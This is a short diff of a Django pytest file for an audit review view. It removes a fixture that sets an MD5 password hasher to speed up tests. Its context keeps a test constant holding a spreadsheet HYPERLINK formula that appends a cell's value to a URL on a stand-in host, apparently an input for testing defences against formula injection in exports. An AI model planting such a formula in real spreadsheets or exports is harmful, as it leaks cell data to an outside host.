@@ -33,11 +33,6 @@ REVIEW = reverse("audit:review")
 HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Klik")'
 
 
-@pytest.fixture(autouse=True)
-def _fast_password_hasher(settings):
-    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
-
-
 @contextmanager
 def at(moment: datetime.datetime):
     """Entries written inside get `moment` as their time (created_at is auto_now_add)."""
